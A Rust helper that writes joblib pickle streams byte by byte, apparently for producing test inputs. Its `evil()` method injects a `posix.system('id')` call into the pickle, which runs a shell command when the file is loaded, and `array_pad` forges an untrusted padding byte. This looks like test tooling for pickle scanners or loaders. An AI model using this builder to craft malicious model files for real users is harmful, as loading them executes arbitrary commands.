//! A streamed joblib writer: pickle opcodes assembled by hand plus inline
//! `NumpyArrayWrapper` payloads, written straight into any `Write` (so a
//! 2 GiB array goes into an encoder without ever being held).
#![allow(dead_code)]

use std::io::Write;

pub struct Jb<W: Write> {
    pub w: W,
    pub pos: u64,
}

impl<W: Write> Jb<W> {
    pub fn new(w: W) -> Self {
        Jb { w, pos: 0 }
    }

    pub fn raw(&mut self, b: &[u8]) -> &mut Self {
        self.w.write_all(b).unwrap();
        self.pos += b.len() as u64;
        self
    }

    pub fn fill(&mut self, mut n: u64, byte: u8) -> &mut Self {
        let chunk = vec![byte; 1 << 20];
        while n > 0 {
            let k = n.min(chunk.len() as u64) as usize;
            self.raw(&chunk[..k]);
            n -= k as u64;
        }
        self
    }

    pub fn s(&mut self, t: &str) -> &mut Self {
        assert!(t.len() < 256);
        self.raw(&[0x8c, t.len() as u8]).raw(t.as_bytes())
    }

    pub fn int(&mut self, v: i32) -> &mut Self {
        self.raw(b"J").raw(&v.to_le_bytes())
    }

    pub fn global(&mut self, m: &str, n: &str) -> &mut Self {
        self.s(m).s(n).raw(&[0x93])
    }

    /// `PROTO 4`, an empty list and a MARK: arrays and calls follow.
    pub fn start(&mut self) -> &mut Self {
        self.raw(&[0x80, 4, b']', b'('])
    }

    /// APPENDS then STOP.
    pub fn finish(&mut self) -> &mut Self {
        self.raw(b"e.")
    }

    /// A `posix.system('id')` call (inside the open MARK).
    pub fn evil(&mut self) -> &mut Self {
        self.global("posix", "system").s("id").raw(&[0x85, b'R'])
    }

    /// A `NumpyArrayWrapper` BUILD for an array of `dims` and dtype
    /// `descr`, with joblib's `numpy_array_alignment_bytes` of 16; the
    /// inline data follows.
    fn wrapper(&mut self, dims: &[u32], descr: &str) -> &mut Self {
        self.global("joblib.numpy_pickle", "NumpyArrayWrapper")
            .raw(&[b')', 0x81, b'}', b'('])
            .s("subclass")
            .global("numpy", "ndarray")
            .s("shape")
            .raw(b"(");
        for &d in dims {
            self.int(d as i32);
        }
        self.raw(b"t")
            .s("order")
            .s("C")
            .s("dtype")
            .global("numpy", "dtype")
            .s(descr)
            .raw(&[0x89, 0x88, 0x87, b'R', b'(', b'K', 3])
            .s("|")
            .raw(b"NNN")
            .int(-1)
            .int(-1)
            .raw(&[b'K', 0, b't', b'b'])
            .s("allow_mmap")
            .raw(&[0x88])
            .s("numpy_array_alignment_bytes")
            .raw(&[b'K', 16, b'u', b'b'])
    }

    /// A `uint8` array of `dims` filled with `byte`, aligned to 16 bytes the
    /// way joblib writes it (padding-length byte, 0xFF padding).
    pub fn array(&mut self, dims: &[u32], byte: u8) -> &mut Self {
        self.wrapper(dims, "u1");
        let pad = 16 - ((self.pos + 1) % 16) as u8;
        let pad = if pad == 0 { 16 } else { pad };
        self.raw(&[pad]);
        self.fill(u64::from(pad), 0xFF);
        let n: u64 = dims.iter().map(|&d| u64::from(d)).product();
        self.fill(n, byte)
    }

    /// A `uint8` array whose padding-length byte is `pad` (0xFF padding),
    /// whatever the alignment: joblib trusts the byte.
    pub fn array_pad(&mut self, dims: &[u32], byte: u8, pad: u8) -> &mut Self {
        self.wrapper(dims, "u1")
            .raw(&[pad])
            .fill(u64::from(pad), 0xFF);
        let n: u64 = dims.iter().map(|&d| u64::from(d)).product();
        self.fill(n, byte)
    }

    /// An object-dtype array of one element: joblib stores it as a nested
    /// pickle (no padding byte), here a list holding `payload` bytes of 0x33
    /// and, if `evil`, a `posix.system('id')` call.
    pub fn object_array(&mut self, payload: u32, evil: bool) -> &mut Self {
        self.wrapper(&[1], "O8").start().raw(b"B");
        self.raw(&payload.to_le_bytes())
            .fill(u64::from(payload), 0x33);
        if evil {
            self.evil();
        }
        self.finish()
    }
}
